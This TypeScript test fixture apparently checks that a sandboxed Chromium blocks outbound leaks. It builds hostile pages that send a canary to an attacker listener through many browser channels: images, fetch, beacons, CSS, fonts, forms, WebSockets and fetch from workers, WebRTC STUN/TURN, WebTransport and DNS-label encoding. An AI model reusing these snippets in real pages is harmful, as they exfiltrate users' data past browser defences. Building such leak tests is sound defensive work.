import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { ExfilAddresses } from './exfil-listener.ts';

/** What a channel's page needs to know: where the attacker listens and what to send. */
export interface AttackTarget {
  ex: ExfilAddresses;
  canary: string;
  /** A host name carrying the canary (for the DNS channel): `<canary>.<suffix>`. */
  dnsName: string;
}

/** How a test knows a channel's attempt is over in a browser that blocks it. */
export type Settled =
  /** The egress proxy refused at least one request. */
  | 'proxy-refusal'
  /** The page sets `window.__settled = true` when its attempt ended (failed or not). */
  | 'page';

/** One way a page can try to send data out. */
export interface ExfilChannel {
  name: string;
  /** The listener that receives it when nothing stops it. */
  listener: 'http' | 'tcp' | 'udp' | 'dns';
  settled: Settled;
  /** The page's body (scripts run as the page's own). */
  body(t: AttackTarget): string;
  /** Same-origin scripts the page loads as workers, by path (`/channel/<name>/<file>`). */
  scripts?: (t: AttackTarget) => Record<string, string>;
  /**
   * False for a channel this Chromium build does not use even without defences (the test then asserts the control
   * browser sends nothing either, so a build that starts using it makes the test fail and ask for a look).
   */
  leaksWithoutDefences?: boolean;
}

const js = (value: unknown): string => JSON.stringify(value);
const httpUrl = (t: AttackTarget, path: string): string => `http://${t.ex.host}:${t.ex.http}/${path}?c=${t.canary}`;
const wsUrl = (t: AttackTarget, path: string): string => `ws://${t.ex.host}:${t.ex.http}/${path}?c=${t.canary}`;
const settle = 'window.__settled = true;';

/** A script that sends the canary over a WebSocket and reports back (`postMessage` to the page or its clients). */
function wsScript(t: AttackTarget, path: string, report: string): string {
  return `try { const ws = new WebSocket(${js(wsUrl(t, path))}); ws.onopen = () => { ws.send(${js(t.canary)}); ${report} }; ws.onerror = () => { ${report} }; } catch (e) { ${report} }`;
}

function fetchScript(t: AttackTarget, path: string, report: string): string {
  return `fetch(${js(httpUrl(t, path))}, { mode: 'no-cors' }).then(() => { ${report} }, () => { ${report} });`;
}

/** WebRTC ICE gathering against the attacker's STUN or TURN server; settles when gathering is complete. */
function rtcBody(iceServer: Record<string, unknown>): string {
  return `<script>
  (async () => {
    try {
      const pc = new RTCPeerConnection({ iceServers: [${js(iceServer)}], iceTransportPolicy: 'all' });
      pc.createDataChannel('x');
      pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === 'complete') { ${settle} } };
      await pc.setLocalDescription(await pc.createOffer());
      setTimeout(() => { ${settle} }, 8000);
    } catch (e) { ${settle} }
  })();
</script>`;
}

/**
 * Every channel a hostile composition can try, each as one page. Together they cover issue 9's list: img, fetch,
 * XHR, beacon, EventSource, CSS, fonts, prefetch, preconnect, iframes, forms, window.open, meta refresh, WebSocket
 * from the page and from each kind of worker, fetch from each kind of worker, WebRTC STUN and TURN (UDP and TCP,
 * canary as the TURN username), WebTransport; the DNS channels are in {@link DNS_CHANNELS}.
 */
export const EXFIL_CHANNELS: readonly ExfilChannel[] = [
  { name: 'img', listener: 'http', settled: 'proxy-refusal', body: (t) => `<img src="${httpUrl(t, 'img')}">` },
  { name: 'script-src', listener: 'http', settled: 'proxy-refusal', body: (t) => `<script src="${httpUrl(t, 'script')}"></script>` },
  { name: 'fetch', listener: 'http', settled: 'proxy-refusal', body: (t) => `<script>${fetchScript(t, 'fetch', '')}</script>` },
  { name: 'xhr', listener: 'http', settled: 'proxy-refusal', body: (t) => `<script>const x = new XMLHttpRequest(); x.open('POST', ${js(httpUrl(t, 'xhr'))}); x.send(${js(t.canary)});</script>` },
  { name: 'beacon', listener: 'http', settled: 'proxy-refusal', body: (t) => `<script>navigator.sendBeacon(${js(httpUrl(t, 'beacon'))}, ${js(t.canary)});</script>` },
  { name: 'eventsource', listener: 'http', settled: 'proxy-refusal', body: (t) => `<script>new EventSource(${js(httpUrl(t, 'es'))});</script>` },
  { name: 'css', listener: 'http', settled: 'proxy-refusal', body: (t) => `<link rel="stylesheet" href="${httpUrl(t, 'css')}"><div style="width:10px;height:10px;background:url(${httpUrl(t, 'bg')})"></div>` },
  { name: 'font', listener: 'http', settled: 'proxy-refusal', body: (t) => `<style>@font-face { font-family: exfil; src: url(${httpUrl(t, 'font')}); } p { font-family: exfil; }</style><p>text</p>` },
  { name: 'prefetch', listener: 'http', settled: 'proxy-refusal', body: (t) => `<link rel="prefetch" href="${httpUrl(t, 'prefetch')}">` },
  // chromium-headless-shell 156 has no network-hints handler: <link rel=preconnect> opens nothing even without a proxy.
  { name: 'preconnect', listener: 'http', settled: 'page', leaksWithoutDefences: false, body: (t) => `<link rel="preconnect" href="http://${t.ex.host}:${t.ex.http}"><script>setTimeout(() => { ${settle} }, 1500);</script>` },
  { name: 'iframe', listener: 'http', settled: 'proxy-refusal', body: (t) => `<iframe src="${httpUrl(t, 'iframe')}"></iframe>` },
  { name: 'form', listener: 'http', settled: 'proxy-refusal', body: (t) => `<iframe name="sink"></iframe><form id="f" method="post" target="sink" action="${httpUrl(t, 'form')}"><input name="c" value="${t.canary}"></form><script>document.getElementById('f').submit();</script>` },
  { name: 'window-open', listener: 'http', settled: 'proxy-refusal', body: (t) => `<script>window.open(${js(httpUrl(t, 'open'))});</script>` },
  { name: 'meta-refresh', listener: 'http', settled: 'proxy-refusal', body: (t) => `<iframe srcdoc="<meta http-equiv=refresh content='0;url=${httpUrl(t, 'meta')}'>"></iframe>` },
  { name: 'websocket-page', listener: 'http', settled: 'proxy-refusal', body: (t) => `<script>${wsScript(t, 'page-ws', '')}</script>` },
  {
    name: 'websocket-dedicated-worker', listener: 'http', settled: 'proxy-refusal',
    body: () => '<script>new Worker("worker.js");</script>',
    scripts: (t) => ({ 'worker.js': wsScript(t, 'worker-ws', '') }),
  },
  {
    name: 'websocket-shared-worker', listener: 'http', settled: 'proxy-refusal',
    body: () => '<script>new SharedWorker("shared.js").port.start();</script>',
    scripts: (t) => ({ 'shared.js': wsScript(t, 'shared-ws', '') }),
  },
  {
    name: 'websocket-service-worker', listener: 'http', settled: 'proxy-refusal',
    body: () => '<script>navigator.serviceWorker.register("sw.js");</script>',
    scripts: (t) => ({ 'sw.js': `self.addEventListener('install', () => { ${wsScript(t, 'sw-ws', '')} });` }),
  },
  {
    name: 'fetch-dedicated-worker', listener: 'http', settled: 'proxy-refusal',
    body: () => '<script>new Worker("worker.js");</script>',
    scripts: (t) => ({ 'worker.js': fetchScript(t, 'worker-fetch', '') }),
  },
  {
    name: 'fetch-shared-worker', listener: 'http', settled: 'proxy-refusal',
    body: () => '<script>new SharedWorker("shared.js").port.start();</script>',
    scripts: (t) => ({ 'shared.js': fetchScript(t, 'shared-fetch', '') }),
  },
  {
    name: 'fetch-service-worker', listener: 'http', settled: 'proxy-refusal',
    body: () => '<script>navigator.serviceWorker.register("sw.js");</script>',
    scripts: (t) => ({ 'sw.js': `self.addEventListener('install', (e) => { e.waitUntil(${fetchScript(t, 'sw-fetch', '').replace(/;$/, '')}); });` }),
  },
  { name: 'webrtc-stun', listener: 'udp', settled: 'page', body: (t) => rtcBody({ urls: `stun:${t.ex.host}:${t.ex.udp}` }) },
  { name: 'webrtc-turn-udp', listener: 'udp', settled: 'page', body: (t) => rtcBody({ urls: `turn:${t.ex.host}:${t.ex.udp}?transport=udp`, username: t.canary, credential: 'x' }) },
  { name: 'webrtc-turn-tcp', listener: 'tcp', settled: 'page', body: (t) => rtcBody({ urls: `turn:${t.ex.host}:${t.ex.tcp}?transport=tcp`, username: t.canary, credential: 'x' }) },
  {
    name: 'webtransport', listener: 'udp', settled: 'page',
    body: (t) => `<script>
  try {
    const wt = new WebTransport(${js(`https://${t.ex.host}:${t.ex.udp}/wt?c=${t.canary}`)}, { serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }] });
    wt.ready.then(() => { ${settle} }, () => { ${settle} });
    setTimeout(() => { ${settle} }, 8000);
  } catch (e) { ${settle} }
</script>`,
  },
];

/**
 * Channels that put the canary in a DNS name (the browser would resolve `<canary>.<suffix>`): dns-prefetch,
 * preconnect, a fetch, an image, a WebSocket, a STUN server name and a WebTransport host.
 */
export const DNS_CHANNELS: readonly ExfilChannel[] = [
  {
    name: 'dns-label', listener: 'dns', settled: 'page',
    body: (t) => `<link rel="dns-prefetch" href="//prefetch-${t.dnsName}"><link rel="preconnect" href="http://preconnect-${t.dnsName}">
<img src="http://img-${t.dnsName}/x">
<script>
  const done = [];
  const mark = () => { done.push(1); if (done.length === 4) { ${settle} } };
  fetch('http://fetch-${t.dnsName}/x', { mode: 'no-cors' }).then(mark, mark);
  try { const ws = new WebSocket('ws://ws-${t.dnsName}/'); ws.onerror = mark; ws.onopen = mark; } catch (e) { mark(); }
  try { const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun-${t.dnsName}:3478' }] }); pc.createDataChannel('x');
    pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === 'complete') mark(); };
    pc.createOffer().then((o) => pc.setLocalDescription(o)); setTimeout(mark, 8000); } catch (e) { mark(); }
  try { new WebTransport('https://wt-${t.dnsName}:4433/').ready.then(mark, mark); } catch (e) { mark(); }
</script>`,
  },
];

/** The allowed site hosting the hostile pages: `/channel/<name>/` and its scripts. */
export interface HostileSite {
  origin: string;
  url(channel: ExfilChannel): string;
  close(): Promise<void>;
}

/** Serves every channel's page (and its worker scripts) on `host` (default 127.0.0.1) at a free port. */
export async function startHostileSite(target: AttackTarget, channels: readonly ExfilChannel[], host = '127.0.0.1', port = 0): Promise<HostileSite> {
  const byName = new Map(channels.map((c) => [c.name, c]));
  const server: Server = createServer((req, res) => {
    const match = /^\/channel\/([a-z0-9-]+)\/([a-z.]*)$/.exec(new URL(req.url ?? '/', 'http://x').pathname);
    const channel = match ? byName.get(match[1]!) : undefined;
    if (!match || !channel) {
      res.writeHead(404);
      res.end();
      return;
    }
    const file = match[2]!;
    if (file === '') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
      res.end(`<!doctype html><html><head><title>${channel.name}</title></head><body>${channel.body(target)}</body></html>`);
      return;
    }
    const script = channel.scripts?.(target)[file];
    if (script === undefined) {
      res.writeHead(404);
      res.end();
      return;
    }
    res.writeHead(200, { 'content-type': 'text/javascript; charset=utf-8', 'cache-control': 'no-store' });
    res.end(script);
  });
  await new Promise<void>((resolve) => server.listen(port, host, resolve));
  const origin = `http://${host}:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    url: (channel) => `${origin}/channel/${channel.name}/`,
    close: () => new Promise<void>((resolve) => {
      server.closeAllConnections();
      server.close(() => resolve());
    }),
  };
}
